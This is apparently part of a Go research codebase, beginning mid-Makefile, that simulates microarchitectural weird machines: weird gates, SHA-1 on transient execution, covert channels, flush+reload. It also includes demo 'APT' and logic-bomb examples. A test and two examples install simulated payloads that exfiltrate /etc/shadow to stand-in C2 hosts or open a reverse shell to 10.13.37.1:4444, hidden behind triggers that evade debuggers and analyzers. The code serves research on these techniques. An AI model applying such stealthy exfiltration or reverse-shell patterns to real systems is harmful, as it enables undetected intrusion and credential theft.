	curl -fsS -X POST "$$gw/v1/jobs?wait=1" -d "$$seeded" -o "$$tmpdir/run2.json" && \
	cmp "$$tmpdir/run1.json" "$$tmpdir/run2.json" && \
	curl -fsS "$$gw/metrics" | grep -q 'uwm_gateway_cache_hits_total 1' || { echo "cache replay broken"; exit 1; }; \
	( sleep 0.15; kill -TERM "$$b1_pid" ) & \
	killer_pid=$$!; \
	for n in 1 2 3 4 5 6 7 8 9 10 11 12; do \
		curl -fsS -X POST "$$gw/v1/jobs?wait=1" \
			-d "{\"type\":\"gate\",\"seed\":$$((100 + n)),\"params\":{\"gate\":\"TSX_XOR\",\"random\":4}}" \
			>/dev/null || { echo "burst request $$n failed during backend loss"; exit 1; }; \
		sleep 0.05; \
	done; \
	wait "$$killer_pid"; \
	wait "$$b1_pid" || { echo "killed backend did not drain cleanly"; exit 1; }; \
	sleep 0.5; \
	curl -fsS "$$gw/v1/cluster" | grep -q '"state": "down"' || { echo "dead backend not in /v1/cluster"; exit 1; }; \
	"$$tmpdir/uwm-top" -addr "$$gw" -once >/dev/null && \
	kill -TERM "$$gw_pid" && wait "$$gw_pid" && \
	kill -TERM "$$b2_pid" && wait "$$b2_pid"

# health-smoke runs the deterministic drift-and-recalibrate scenario:
# drifted noise flagged, exactly one recalibration, live == offline.
health-smoke:
	$(GO) test -run 'TestWorkerDriftRecalibration' -count=1 ./internal/engine

bench:
	$(GO) test -bench=. -benchmem -run=^$$ ./...

# bench-report writes a machine-readable evaluation record; compare two
# of them with `make bench-compare OLD=bench/BENCH_x.json NEW=BENCH_y.json`.
bench-report:
	$(GO) run ./cmd/uwm-bench -all -repeat 5 -json $(BENCH_OUT)

bench-compare:
	$(GO) run ./cmd/uwm-bench -compare $(OLD) $(NEW)

clean:
	$(GO) clean ./...
