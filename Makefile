GO ?= go
BENCH_OUT ?= BENCH_$(shell date +%Y%m%d-%H%M%S).json

.PHONY: all build test race vet staticcheck fmt-check ci serve-smoke bench bench-report bench-compare clean

all: build

build:
	$(GO) build ./...

test:
	$(GO) test ./...

race:
	$(GO) test -race ./...

vet:
	$(GO) vet ./...

# staticcheck runs when the binary is available (CI installs it; local
# runs without it just skip).
staticcheck:
	@if command -v staticcheck >/dev/null 2>&1; then \
		staticcheck ./...; \
	else \
		echo "staticcheck not installed; skipping"; \
	fi

fmt-check:
	@out="$$(gofmt -l .)"; \
	if [ -n "$$out" ]; then \
		echo "gofmt needed on:"; echo "$$out"; exit 1; \
	fi

# ci is the gate a pull request must pass: formatting, static checks,
# a clean build, the full test suite under the race detector, and the
# job-service and gate-health smoke tests.
ci: fmt-check vet staticcheck build race serve-smoke health-smoke

# serve-smoke boots uwm-serve on an ephemeral port, runs the example
# client and a one-shot uwm-top against it, and asserts a clean SIGTERM
# drain (exit 0).
serve-smoke:
	@tmpdir="$$(mktemp -d)"; \
	trap 'rm -rf "$$tmpdir"' EXIT; \
	$(GO) build -o "$$tmpdir/uwm-serve" ./cmd/uwm-serve; \
	$(GO) build -o "$$tmpdir/uwm-top" ./cmd/uwm-top; \
	"$$tmpdir/uwm-serve" -addr 127.0.0.1:0 -addr-file "$$tmpdir/addr" & \
	serve_pid=$$!; \
	i=0; while [ ! -s "$$tmpdir/addr" ]; do \
		i=$$((i + 1)); [ "$$i" -gt 100 ] && exit 1; sleep 0.1; \
	done; \
	$(GO) run ./examples/serve -addr "$$(cat "$$tmpdir/addr")" && \
	"$$tmpdir/uwm-top" -addr "http://$$(cat "$$tmpdir/addr")" -once >/dev/null && \
	kill -TERM "$$serve_pid" && wait "$$serve_pid"

# health-smoke runs the deterministic drift-and-recalibrate scenario:
# drifted noise flagged, exactly one recalibration, live == offline.
health-smoke:
	$(GO) test -run 'TestWorkerDriftRecalibration' -count=1 ./internal/engine

bench:
	$(GO) test -bench=. -benchmem -run=^$$ ./...

# bench-report writes a machine-readable evaluation record; compare two
# of them with `make bench-compare OLD=bench/BENCH_x.json NEW=BENCH_y.json`.
bench-report:
	$(GO) run ./cmd/uwm-bench -all -repeat 5 -json $(BENCH_OUT)

bench-compare:
	$(GO) run ./cmd/uwm-bench -compare $(OLD) $(NEW)

clean:
	$(GO) clean ./...
