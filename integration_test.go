// Integration tests exercising the full stack across package
// boundaries: one weird machine hosting gates, circuits, skelly, the
// SHA-1 application and the APT, observed end to end by the analyzer.
package uwm_test

import (
	"bytes"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"uwm/internal/analyzer"
	"uwm/internal/bexpr"
	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/metrics"
	"uwm/internal/noise"
	"uwm/internal/obs"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/wmapt"
)

// TestFullStackOneMachine builds skelly, a compiled circuit and an
// expression on a single machine and cross-checks them: three different
// routes to XOR must agree.
func TestFullStackOneMachine(t *testing.T) {
	m, err := core.NewMachine(core.Options{Seed: 99, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	tsxXor, err := core.NewTSXXor(m)
	if err != nil {
		t.Fatal(err)
	}
	circ, vars, err := bexpr.Compile(m, "a ^ b")
	if err != nil {
		t.Fatal(err)
	}
	if len(vars) != 2 {
		t.Fatalf("vars = %v", vars)
	}
	for a := 0; a < 2; a++ {
		for b := 0; b < 2; b++ {
			want := a ^ b
			v1, err := sk.Xor(a, b) // BP-gate composition
			if err != nil {
				t.Fatal(err)
			}
			v2, err := tsxXor.Run(a, b) // hand-built TSX circuit
			if err != nil {
				t.Fatal(err)
			}
			v3, err := circ.Run(a, b) // compiled netlist
			if err != nil {
				t.Fatal(err)
			}
			if v1 != want || v2[0] != want || v3[0] != want {
				t.Errorf("XOR(%d,%d): skelly=%d tsx=%d circuit=%d want %d",
					a, b, v1, v2[0], v3[0], want)
			}
		}
	}
}

// TestObservedPipeline runs a small hash under the analyzer and checks
// the architectural evidence never contains a committed boolean
// instruction while the digest still verifies.
func TestObservedPipeline(t *testing.T) {
	if testing.Short() {
		t.Skip("hashes >100k gates")
	}
	m, err := core.NewMachine(core.Options{Seed: 17, TrainIterations: 3})
	if err != nil {
		t.Fatal(err)
	}
	obs := analyzer.Attach(m, 500_000)
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		t.Fatal(err)
	}
	h := sha1wm.New(sk)
	digest, err := h.Sum([]byte("observed"))
	if err != nil {
		t.Fatal(err)
	}
	if digest != sha1wm.Sum([]byte("observed")) {
		t.Fatal("digest mismatch under observation")
	}
	for _, op := range []string{"and", "or", "xor"} {
		if obs.ExecutedOpcode(op) {
			t.Errorf("architectural %s committed during the weird hash", op)
		}
	}
	if obs.MicroEventCount() == 0 && obs.Events() == nil {
		t.Error("analyzer recorded nothing")
	}
}

// TestAPTOnSharedMachine installs the APT on an externally built
// machine (sharing it with other gates) and drives it to completion.
func TestAPTOnSharedMachine(t *testing.T) {
	m, err := core.NewMachine(wmapt.MachineOptions(777))
	if err != nil {
		t.Fatal(err)
	}
	// Another tenant of the machine.
	bystander, err := core.NewTSXAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Machine: m, EvalMultiple: 5})
	if err != nil {
		t.Fatal(err)
	}
	pad, err := apt.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "c2:443"})
	if err != nil {
		t.Fatal(err)
	}
	fired := false
	for i := 0; i < 300 && !fired; i++ {
		res, err := apt.HandlePing(pad)
		if err != nil {
			t.Fatal(err)
		}
		fired = res != nil
		// The bystander gate keeps computing correctly in between.
		if i%20 == 0 {
			out, err := bystander.Run(1, 1)
			if err != nil {
				t.Fatal(err)
			}
			if out[0] != 1 {
				t.Error("bystander gate corrupted by APT activity")
			}
		}
	}
	if !fired {
		t.Fatal("trigger never decoded")
	}
	if !strings.Contains(string(env.Exfiltrated["c2:443"]), "root:") {
		t.Error("exfiltration payload incomplete")
	}
}

// TestObservabilityAcceptance encodes the PR's acceptance criterion:
// the `uwm-gates -op and -metrics -trace-out and.json` flow must yield
// (a) a Prometheus exposition with non-zero cache, branch, cpu and
// gate series and (b) a Chrome trace_event JSON containing commit,
// spec-window and cache-fill events.
func TestObservabilityAcceptance(t *testing.T) {
	path := filepath.Join(t.TempDir(), "and.json")
	sess, err := obs.Start(obs.Config{Metrics: true, TraceOut: path})
	if err != nil {
		t.Fatal(err)
	}
	var exposition bytes.Buffer
	sess.SetOutput(&exposition)

	m, err := core.NewMachine(core.Options{
		Seed:            1,
		TrainIterations: 4,
		Metrics:         sess.Registry,
		Sink:            sess.Sink,
	})
	if err != nil {
		t.Fatal(err)
	}
	g, err := core.NewBPAnd(m)
	if err != nil {
		t.Fatal(err)
	}
	for c := 0; c < 4; c++ {
		if _, err := g.Run(c&1, c>>1); err != nil {
			t.Fatal(err)
		}
	}
	if err := sess.Close(); err != nil {
		t.Fatal(err)
	}

	// (a) non-zero metrics across every instrumented layer.
	for _, name := range []string{
		cpu.MetricCommitted,
		cpu.MetricMispredicts,
		"uwm_branch_predictions_total",
		core.MetricThreshold,
	} {
		if v, ok := sess.Registry.Value(name); !ok || v <= 0 {
			t.Errorf("metric %s = %v (ok=%v), want > 0", name, v, ok)
		}
	}
	if v, ok := sess.Registry.Value("uwm_cache_misses_total", metrics.L("level", "L1D")); !ok || v <= 0 {
		t.Errorf("L1D misses = %v (ok=%v), want > 0", v, ok)
	}
	if v, ok := sess.Registry.Value(core.MetricGateFires,
		metrics.L("gate", "AND"), metrics.L("family", "bp")); !ok || v != 4 {
		t.Errorf("gate fires = %v (ok=%v), want 4", v, ok)
	}
	if !strings.Contains(exposition.String(), "# TYPE uwm_cpu_committed_total counter") {
		t.Error("exposition missing TYPE header for committed counter")
	}

	// (b) a loadable Chrome trace with the three event families.
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []struct {
			Name  string `json:"name"`
			Phase string `json:"ph"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(data, &doc); err != nil {
		t.Fatalf("trace file is not valid Chrome trace JSON: %v", err)
	}
	seen := map[string]bool{}
	for _, e := range doc.TraceEvents {
		seen[e.Name] = true
		if e.Name == "spec-window" && e.Phase != "X" {
			t.Errorf("spec-window emitted as %q, want complete event X", e.Phase)
		}
	}
	for _, want := range []string{"commit", "spec-window", "cache-fill"} {
		if !seen[want] {
			t.Errorf("trace missing %q events (saw %v)", want, seen)
		}
	}
}

// TestEmulationGateKeepsPayloadSafe combines §2.1 with §5.1: a payload
// guarded by the emulation probe never runs on the "emulator".
func TestEmulationGateKeepsPayloadSafe(t *testing.T) {
	real := core.MustNewMachine(core.Options{Seed: 41, Noise: noise.Paper()})
	v, err := core.DetectEmulation(real, 24)
	if err != nil {
		t.Fatal(err)
	}
	if !v.RealHardware {
		t.Fatal("real machine flagged as emulator")
	}
}
