// The godoc audit: every package in the module is part of the
// documentation surface DESIGN.md points into, so each one must carry
// a substantive package comment. staticcheck's ST1000 enforces mere
// presence in CI; this test runs everywhere `go test ./...` does and
// additionally demands the comments say something.
package uwm_test

import (
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestPackageCommentsSubstantive walks every Go package under
// internal/, cmd/ and examples/ and fails when a package's comment is
// missing or too thin to tell a reader what the package is for.
func TestPackageCommentsSubstantive(t *testing.T) {
	const minLen = 80 // runes of comment text; a sentence, not a stub

	dirs := map[string]bool{}
	for _, root := range []string{"internal", "cmd", "examples"} {
		err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
			if err != nil {
				return err
			}
			if !d.IsDir() && strings.HasSuffix(path, ".go") && !strings.HasSuffix(path, "_test.go") {
				dirs[filepath.Dir(path)] = true
			}
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}

	for dir := range dirs {
		fset := token.NewFileSet()
		pkgs, err := parser.ParseDir(fset, dir, func(fi os.FileInfo) bool {
			return !strings.HasSuffix(fi.Name(), "_test.go")
		}, parser.ParseComments|parser.PackageClauseOnly)
		if err != nil {
			t.Fatalf("%s: %v", dir, err)
		}
		for name, pkg := range pkgs {
			var doc string
			for _, f := range pkg.Files {
				if f.Doc != nil && len(f.Doc.Text()) > len(doc) {
					doc = f.Doc.Text()
				}
			}
			doc = strings.TrimSpace(doc)
			switch {
			case doc == "":
				t.Errorf("%s: package %s has no package comment", dir, name)
			case len([]rune(doc)) < minLen:
				t.Errorf("%s: package %s comment is %d chars, want >= %d: %q",
					dir, name, len([]rune(doc)), minLen, doc)
			case name != "main" && !strings.HasPrefix(doc, "Package "+name+" "):
				t.Errorf("%s: package %s comment does not start with %q",
					dir, name, "Package "+name)
			}
		}
	}
}
