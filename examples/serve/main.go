// Serving weird-machine jobs over HTTP: submit a SHA-1 weird-hash job
// asynchronously, poll it to completion, and print the voted digest
// next to the architectural reference.
//
//	go run ./examples/serve                      # self-hosted demo
//	go run ./examples/serve -addr localhost:8080 # against a running uwm-serve
//
// With no -addr the example hosts the service in-process on an
// ephemeral port first (the same engine+httpapi stack cmd/uwm-serve
// wires up), so it runs out of the box.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"math/rand/v2"
	"net"
	"net/http"
	"strconv"
	"strings"
	"time"

	"uwm/internal/engine"
	"uwm/internal/engine/httpapi"
)

func main() {
	addr := flag.String("addr", "", "uwm-serve address; empty self-hosts an in-process service")
	msg := flag.String("message", "computing with time", "message to hash on the weird machine")
	reqID := flag.String("request-id", "", "X-Request-Id to submit under, so the job's flight-record is retrievable by a caller-chosen id")
	flag.Parse()

	base := *addr
	if base == "" {
		var shutdown func()
		var err error
		base, shutdown, err = selfHost()
		if err != nil {
			log.Fatal(err)
		}
		defer shutdown()
		fmt.Printf("self-hosted uwm-serve stack on %s\n", base)
	}
	client := &http.Client{Timeout: 10 * time.Second}

	// Submit asynchronously: vote-of-2-out-of-3 redundant hashes, so a
	// gate error in one attempt is outvoted by the two clean ones.
	body := fmt.Sprintf(`{"type":"sha1","params":{"message":%q},"attempts":3,"vote":2}`, *msg)
	resp, err := submitWithRetry(client, "http://"+base+"/v1/jobs", body, *reqID)
	if err != nil {
		log.Fatal(err)
	}
	var snap struct {
		ID     string `json:"id"`
		Status string `json:"status"`
		Error  string `json:"error"`
		Result *struct {
			Value    json.RawMessage `json:"value"`
			Attempts int             `json:"attempts"`
			Votes    int             `json:"votes"`
			Quorum   bool            `json:"quorum"`
		} `json:"result"`
	}
	if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
		log.Fatal(err)
	}
	resp.Body.Close()
	if *reqID != "" {
		fmt.Printf("submitted %s as request %s (%d): status %q\n", snap.ID, *reqID, resp.StatusCode, snap.Status)
	} else {
		fmt.Printf("submitted %s (%d): status %q\n", snap.ID, resp.StatusCode, snap.Status)
	}

	// Poll until the job is terminal.
	for snap.Status == "queued" || snap.Status == "running" {
		time.Sleep(100 * time.Millisecond)
		resp, err := client.Get("http://" + base + "/v1/jobs/" + snap.ID)
		if err != nil {
			log.Fatal(err)
		}
		if err := json.NewDecoder(resp.Body).Decode(&snap); err != nil {
			log.Fatal(err)
		}
		resp.Body.Close()
		fmt.Printf("  poll: %s\n", snap.Status)
	}

	if snap.Status != "done" || snap.Result == nil {
		log.Fatalf("job finished %s: %s", snap.Status, snap.Error)
	}
	var res struct {
		Digest    string `json:"digest"`
		Reference string `json:"reference"`
		Match     bool   `json:"match"`
		GateOps   uint64 `json:"gate_ops"`
	}
	if err := json.Unmarshal(snap.Result.Value, &res); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nweird SHA-1(%q)\n", *msg)
	fmt.Printf("  digest:    %s\n", res.Digest)
	fmt.Printf("  reference: %s\n", res.Reference)
	fmt.Printf("  match: %v after %d gate ops; %d/%d attempts agreed (quorum %v)\n",
		res.Match, res.GateOps, snap.Result.Votes, snap.Result.Attempts, snap.Result.Quorum)
}

// submitWithRetry POSTs the job and honors the service's backpressure:
// a 429 carries a Retry-After hint derived from the live queue depth
// and drain rate, so the client waits that long — with ±25% jitter, so
// a herd of rejected clients does not re-collide on the same tick —
// and rebuilds the request for another attempt.
func submitWithRetry(client *http.Client, url, body, reqID string) (*http.Response, error) {
	const maxAttempts = 5
	for attempt := 1; ; attempt++ {
		req, err := http.NewRequest(http.MethodPost, url, strings.NewReader(body))
		if err != nil {
			return nil, err
		}
		req.Header.Set("Content-Type", "application/json")
		if reqID != "" {
			req.Header.Set("X-Request-Id", reqID)
		}
		resp, err := client.Do(req)
		if err != nil {
			return nil, err
		}
		if resp.StatusCode != http.StatusTooManyRequests || attempt == maxAttempts {
			return resp, nil
		}
		wait := time.Second
		if secs, err := strconv.Atoi(resp.Header.Get("Retry-After")); err == nil && secs > 0 {
			wait = time.Duration(secs) * time.Second
		}
		resp.Body.Close()
		wait += time.Duration(rand.Int64N(int64(wait)/2)) - wait/4
		fmt.Printf("  429 busy: retrying in %s (attempt %d/%d)\n",
			wait.Round(time.Millisecond), attempt, maxAttempts)
		time.Sleep(wait)
	}
}

// selfHost stands up the engine + HTTP API on an ephemeral port.
func selfHost() (addr string, shutdown func(), err error) {
	eng, err := engine.New(engine.Config{Workers: 2})
	if err != nil {
		return "", nil, err
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return "", nil, err
	}
	srv := &http.Server{Handler: httpapi.New(eng)}
	go srv.Serve(ln)
	shutdown = func() {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		defer cancel()
		srv.Shutdown(ctx)
		eng.Close(ctx)
	}
	return ln.Addr().String(), shutdown, nil
}
