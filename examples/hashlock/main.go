// Hash-locked conditional code (paper §5.2, after Sharif et al.): the
// payload is encrypted under a key derived from a secret trigger, and
// only the trigger's hash is stored — computed by the μWM SHA-1, so the
// condition can only even be *evaluated* on hardware with transient
// execution. Brute-forcing the trigger means brute-forcing through
// weird hashes, which (the paper argues) also pins the malware to one
// microarchitecture.
//
//	go run ./examples/hashlock
package main

import (
	"fmt"
	"log"
	"time"

	"uwm/internal/core"
	"uwm/internal/skelly"
	"uwm/internal/wmapt"
)

func main() {
	m, err := core.NewMachine(core.Options{Seed: 2718, TrainIterations: 3})
	if err != nil {
		log.Fatal(err)
	}
	sk, err := skelly.New(m, skelly.FastConfig())
	if err != nil {
		log.Fatal(err)
	}
	env := wmapt.NewEnv()
	hl, err := wmapt.NewHashLockSystem(sk, env)
	if err != nil {
		log.Fatal(err)
	}

	trigger := []byte("the magic words are squeamish ossifrage")
	if err := hl.Install(wmapt.ExfilShadow{Path: "/etc/shadow", Dest: "10.66.0.1:443"}, trigger); err != nil {
		log.Fatal(err)
	}
	fmt.Printf("installed; the binary stores only SHA-1(trigger) = %x\n", hl.TriggerHash())
	fmt.Println("environment before:", env.Snapshot())

	for _, candidate := range []string{"password", "letmein", "the magic words are squeamish ossifrage!"} {
		start := time.Now()
		res, err := hl.HandleInput([]byte(candidate))
		if err != nil {
			log.Fatal(err)
		}
		if res != nil {
			log.Fatalf("fired on wrong input %q", candidate)
		}
		fmt.Printf("input %-42q → weird hash mismatch, silent (%v)\n", candidate, time.Since(start).Round(time.Millisecond))
	}

	start := time.Now()
	res, err := hl.HandleInput(trigger)
	if err != nil {
		log.Fatal(err)
	}
	if res == nil {
		log.Fatal("correct trigger did not fire")
	}
	fmt.Printf("\ncorrect trigger decoded in %v:\n", time.Since(start).Round(time.Millisecond))
	for _, e := range res.Events {
		fmt.Println("  payload:", e)
	}
	fmt.Println("environment after:", env.Snapshot())
}
