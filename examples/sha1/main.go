// SHA-1 on a weird machine (paper §5.2): hash a message where every
// boolean function and every 32-bit addition of the compression loop is
// computed by weird gates, then verify against a reference SHA-1.
//
//	go run ./examples/sha1
package main

import (
	"fmt"
	"log"
	"time"

	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
)

func main() {
	m, err := core.NewMachine(core.Options{
		Seed:            7,
		Noise:           noise.PaperIsolated(), // §6.1 setup: isolated core
		TrainIterations: 3,
	})
	if err != nil {
		log.Fatal(err)
	}

	// Redundancy: each logical gate op takes the median of s timed
	// executions, n times, and votes. The paper's conservative choice
	// is s=10,k=3,n=5; s=3 single-vote is plenty on an isolated core.
	sk, err := skelly.New(m, skelly.Config{S: 3, K: 1, N: 1, Verify: true})
	if err != nil {
		log.Fatal(err)
	}
	h := sha1wm.New(sk)

	msg := []byte("The quick brown fox jumps over the lazy dog")
	fmt.Printf("hashing %q on weird gates...\n", msg)
	start := time.Now()
	digest, err := h.Sum(msg)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("μWM SHA-1:      %x   (%v)\n", digest, time.Since(start).Round(time.Millisecond))

	ref := sha1wm.Sum(msg)
	fmt.Printf("reference SHA-1: %x\n", ref)
	if digest == ref {
		fmt.Println("digests match: >100,000 weird gate executions, zero uncorrected errors")
	} else {
		fmt.Println("digest MISMATCH: gate errors escaped the redundancy parameters")
	}

	st := h.Stats()
	fmt.Printf("\n%.1f%% of gate results were architecturally visible (paper: 41.9%% at s=10,k=3,n=5)\n",
		st.VisibleFraction()*100)
	for _, g := range []string{"AND", "OR", "NAND", "AND_AND_OR"} {
		c := sk.Counters(g)
		fmt.Printf("%-12s %8d median decisions (%d correct), %8d votes (%d correct)\n",
			g, c.MedianOps, c.MedianCorrect, c.VoteOps, c.VoteCorrect)
	}
}
