// Covert channel over weird registers (paper §3.1): two parties that
// never exchange architectural data communicate by writing and reading
// a shared weird register. The demo sends a byte string over a
// data-cache WR, then shows the volatile mul-contention WR losing a
// bit that is read too late — the paper's volatility property.
//
//	go run ./examples/covertchannel
package main

import (
	"fmt"
	"log"

	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/noise"
)

// sender and receiver share nothing but the machine (i.e. the core's
// microarchitectural state) and the agreed-upon register.
type sender struct{ wr core.WeirdRegister }

func (s sender) sendByte(b byte) error {
	for i := 0; i < 8; i++ {
		if err := s.wr.Write(int(b >> uint(i) & 1)); err != nil {
			return err
		}
	}
	return nil
}

type receiver struct{ wr core.WeirdRegister }

func (r receiver) recvByte() (byte, error) {
	var b byte
	for i := 0; i < 8; i++ {
		bit, err := r.wr.Read()
		if err != nil {
			return 0, err
		}
		if bit != 0 {
			b |= 1 << uint(i)
		}
	}
	return b, nil
}

func main() {
	m, err := core.NewMachine(core.Options{Seed: 99, TrainIterations: 4})
	if err != nil {
		log.Fatal(err)
	}

	// A d-cache weird register as the shared medium. Reads are
	// destructive, so sender and receiver alternate bit by bit.
	dc, err := core.NewDCWR(m)
	if err != nil {
		log.Fatal(err)
	}
	tx := sender{wr: dc}
	rx := receiver{wr: dc}

	message := []byte("covert!")
	fmt.Printf("sending %q one bit at a time through L1D residency...\n", message)
	var got []byte
	for _, b := range message {
		// Interleave: write one bit, read it back before the next
		// write (reading a DC-WR is invasive, §3.1).
		var out byte
		for i := 0; i < 8; i++ {
			if err := dc.Write(int(b >> uint(i) & 1)); err != nil {
				log.Fatal(err)
			}
			bit, err := dc.Read()
			if err != nil {
				log.Fatal(err)
			}
			if bit != 0 {
				out |= 1 << uint(i)
			}
		}
		got = append(got, out)
	}
	fmt.Printf("received: %q\n", got)
	_ = tx
	_ = rx

	// Volatility demo: a mul-contention register holds its bit for a
	// few hundred cycles only.
	mul, err := core.NewMulWR(m)
	if err != nil {
		log.Fatal(err)
	}
	if err := mul.Write(1); err != nil {
		log.Fatal(err)
	}
	bit, err := mul.Read()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nmul-contention WR read immediately after write(1): %d\n", bit)

	if err := mul.Write(1); err != nil {
		log.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		if err := mul.Idle(); err != nil { // ~250 idle cycles each
			log.Fatal(err)
		}
	}
	bit, err = mul.Read()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("mul-contention WR read after ~2000 idle cycles:   %d (value decayed — volatility)\n", bit)

	// Capacity measurement: the covert package frames any weird
	// register into a measured channel.
	ch := covert.NewChannel(dc, 1)
	rep, err := covert.Measure(m, ch, 4000, noise.NewRNG(2))
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("\nDC-WR channel: %s → %.0f bits/s at 2.3 GHz\n", rep, rep.BitsPerSecond(2.3e9))

	// And the classic side channel the paper builds on (§2): a victim
	// whose table index is a secret, an attacker who only flushes and
	// times shared lines.
	fr, err := covert.NewFlushReload(m)
	if err != nil {
		log.Fatal(err)
	}
	secret := byte(0xC3)
	fr.PlantSecret(secret)
	rec, err := fr.RecoverSecret(3)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("flush+reload: planted %#02x in the victim, recovered %#02x from timing alone\n", secret, rec)
}
