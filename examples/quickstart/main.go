// Quickstart: build a microarchitectural weird machine, construct one
// weird AND gate of each family, and watch logic emerge from timing.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"log"

	"uwm/internal/analyzer"
	"uwm/internal/core"
	"uwm/internal/noise"
)

func main() {
	// A Machine owns the simulated CPU (caches, branch predictors,
	// transactional memory, a cycle-accurate clock) and calibrates the
	// timing threshold that separates cache hits from misses.
	m, err := core.NewMachine(core.Options{
		Seed:            42,
		Noise:           noise.Paper(), // calibrated system noise; use noise.Quiet() for determinism
		TrainIterations: 8,
	})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("machine calibrated: hit/miss threshold = %d cycles\n\n", m.Threshold())

	// Attach the defender before doing anything weird: it sees every
	// committed instruction, register write and memory write.
	obs := analyzer.Attach(m, 0)

	// A branch-predictor/instruction-cache AND gate (paper Figure 1).
	// Input a is the I-cache state of the gate body, input b the
	// trained direction of the gate branch; the output is whether a
	// cache line got filled during erroneous speculative execution.
	bpAnd, err := core.NewBPAnd(m)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("bp/icache AND gate:")
	for _, in := range [][2]int{{0, 0}, {0, 1}, {1, 0}, {1, 1}} {
		out, timing, err := bpAnd.RunTimed(in[0], in[1])
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  AND(%d,%d) = %d   (read latency %d cycles)\n", in[0], in[1], out, timing)
	}

	// A TSX AND gate (paper §4): a dependent load chain inside the
	// post-fault transient window of an aborting transaction.
	tsxAnd, err := core.NewTSXAnd(m)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("\nTSX AND gate:")
	for _, in := range [][2]int{{0, 0}, {0, 1}, {1, 0}, {1, 1}} {
		out, err := tsxAnd.Run(in[0], in[1])
		if err != nil {
			log.Fatal(err)
		}
		fmt.Printf("  AND(%d,%d) = %d\n", in[0], in[1], out[0])
	}

	// The punchline: the machine computed AND eight times, yet the
	// complete architectural evidence contains no AND instruction.
	fmt.Println()
	fmt.Println(obs.Report())
	fmt.Printf("architectural 'and' instruction observed: %v\n", obs.ExecutedOpcode("and"))
}
