// Logic bomb / weird obfuscation demo (paper §5.1): a simulated APT
// whose trigger decoding runs on a TSX weird XOR circuit. The defender
// watches the full architectural state the whole time and sees nothing
// until the payload is already running — and attaching a debugger
// makes the trigger undecodable.
//
//	go run ./examples/logicbomb
package main

import (
	"fmt"
	"log"

	"uwm/internal/analyzer"
	"uwm/internal/wmapt"
)

func main() {
	env := wmapt.NewEnv()
	apt, err := wmapt.New(env, wmapt.Options{Seed: 1337})
	if err != nil {
		log.Fatal(err)
	}
	obs := analyzer.Attach(apt.Machine(), 200_000)

	trigger, err := apt.Install(wmapt.ReverseShell{Addr: "10.13.37.1", Port: 4444})
	if err != nil {
		log.Fatal(err)
	}
	fmt.Println("APT installed; trigger:", trigger.PingPattern())
	fmt.Println("environment before:", env.Snapshot())

	// Phase 1: wrong triggers under passive observation — silence.
	wrong := trigger
	wrong[3] ^= 0x80
	for i := 0; i < 3; i++ {
		res, err := apt.HandlePing(wrong)
		if err != nil {
			log.Fatal(err)
		}
		if res != nil {
			log.Fatal("fired on a wrong trigger!")
		}
	}
	fmt.Printf("\n3 wrong pings processed (each = %d weird 160-bit XOR transforms)\n", wmapt.DefaultEvalMultiple)
	fmt.Println("architectural 'xor' instruction seen by the analyzer:", obs.ExecutedOpcode("xor"))
	fmt.Println("environment still:", env.Snapshot())

	// Phase 2: the defender attaches a debugger. Even the CORRECT
	// trigger cannot decode, because observation aborts the gate
	// transactions.
	obs.Observe(true)
	for i := 0; i < 3; i++ {
		res, err := apt.HandlePing(trigger)
		if err != nil {
			log.Fatal(err)
		}
		if res != nil {
			log.Fatal("fired while being debugged!")
		}
	}
	fmt.Println("\n3 CORRECT pings under an attached debugger: still silent (observation destroys the circuit)")
	obs.Observe(false)

	// Phase 3: debugger detached, correct trigger delivered until the
	// weird XOR decodes all 160 bits.
	for {
		res, err := apt.HandlePing(trigger)
		if err != nil {
			log.Fatal(err)
		}
		if res != nil {
			fmt.Printf("\npayload fired after %d pings total:\n", res.PingsReceived)
			for _, e := range res.Events {
				fmt.Println("  ", e)
			}
			break
		}
	}
	fmt.Println("environment after:", env.Snapshot())
	fmt.Println("\nforensics:", obs.Report())
}
